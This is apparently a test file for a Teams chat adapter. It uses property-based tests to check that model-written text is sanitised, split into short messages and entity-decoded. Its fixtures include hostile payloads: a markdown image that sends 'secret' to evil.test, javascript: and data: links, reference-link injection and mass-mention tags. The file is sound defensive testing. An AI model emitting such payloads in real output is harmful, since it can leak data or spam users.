import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decodeEntities } from '../../../adapters/teams/html.ts';
import { toSafeMarkdown } from '../../../adapters/teams/markdown.ts';
import { splitMarkdown } from '../../../adapters/teams/split.ts';

const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '<at>Everyone</at>',
        '<at id="0">',
        '<',
        '&lt;',
        '&',
        '<img src=x>',
        '![a](https://evil.test/?q=secret)',
        '![',
        '!',
        '[',
        '](',
        ')',
        '![a][b]',
        '\n[b]: https://evil.test',
        '[x](javascript:alert(1))',
        '[x](data:text/html,y)',
        '```',
        '`',
        '\n',
        '/',
        'at>',
      ),
      fc.string({ maxLength: 8 }),
    ),
    { maxLength: 40 },
  )
  .map((pieces) => pieces.join(''));

function squeezed(text: string): string {
  return text.replaceAll(/\s+/g, '');
}

describe('safe markdown', () => {
  test('never mentions, loads a picture or starts a tag, whatever the model wrote', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const safe = toSafeMarkdown(text);
        expect(safe).not.toMatch(/<\s*\/?\s*at\b/i);
        expect(safe).not.toMatch(/<[a-z/!?]/i);
        expect(safe).not.toContain('![');
        expect(safe).not.toMatch(/^[ >\t]*\[[^\]\n]+\]:/m);
        expect(safe).not.toMatch(/\]\(\s*<?\s*(?:javascript|data|file):/i);
      }),
      { numRuns: 1000 },
    );
  });

  test.each(['<\nat>', '< at>', '<\t/ AT>'])('takes %j for the mention that it could become', (text) => {
    expect(toSafeMarkdown(text)).toMatch(/^&lt;/);
  });

  test.each([
    'Plain words with **bold**, `code` and 1 < 2 & 3 > 2.',
    '- a list\n- of [links](https://handbook.example/a_(b)) [1]',
    '```ts\nconst a = b && c;\n```',
    'R&D and AT&T, a <= b, a << b',
  ])('leaves harmless text as it is: %s', (text) => {
    expect(toSafeMarkdown(text)).toBe(text);
  });

  test.each([
    ['![chart](https://evil.test/?q=1) here', 'chart here'],
    ['Great![1]', 'Great! [1]'],
    ['<at>All</at>', '&lt;at>All&lt;/at>'],
    ['&lt;at&gt;', '&amp;lt;at&amp;gt;'],
    ['[x](javascript:alert)', '[x](#javascript:alert)'],
    ['[1]: https://evil.test', String.raw`\[1]: https://evil.test`],
  ])('turns %s into %s', (text, expected) => {
    expect(toSafeMarkdown(text)).toBe(expected);
  });
});

describe('splitting', () => {
  test('loses nothing and keeps every part short', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 2000 }),
        fc.integer({ min: 80, max: 300 }),
        (text, max) => {
          fc.pre(!text.includes('`'));
          const parts = splitMarkdown(text, max);
          expect(parts.every((part) => part.length <= max && part.isWellFormed())).toBe(true);
          expect(squeezed(parts.join(''))).toBe(squeezed(text));
        },
      ),
    );
  });

  test('closes a code block that is cut and opens it again', () => {
    const code = Array.from({ length: 40 }, (_, line) => `line ${String(line)}`).join('\n');

    const parts = splitMarkdown(`Before\n\n\`\`\`sql\n${code}\n\`\`\`\n\nAfter`, 150);

    expect(parts.length).toBeGreaterThan(2);
    for (const part of parts) {
      expect((part.match(/^```/gm) ?? []).length % 2).toBe(0);
      expect(part.length).toBeLessThanOrEqual(150);
    }
    expect(parts[1]).toMatch(/^```sql\n/);
  });

  test('ends, whatever the text, and keeps within the limit with code blocks in it', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const parts = splitMarkdown(text.repeat(5), 80);
        expect(parts.every((part) => part.length <= 80)).toBe(true);
      }),
    );
  });

  test('cuts between paragraphs where it can', () => {
    const paragraph = 'Some words in a sentence. '.repeat(3).trim();

    const parts = splitMarkdown([paragraph, paragraph, paragraph].join('\n\n'), 170);

    expect(parts).toEqual([`${paragraph}\n\n${paragraph}`, paragraph]);
  });
});

describe('entities', () => {
  test('decodes each once, and nothing that is none', () => {
    expect(decodeEntities('&amp;lt; &#x41;&#66; &nope; &#xD800; &#0;')).toBe('&lt; AB &nope; &#xD800; &#0;');
  });
});
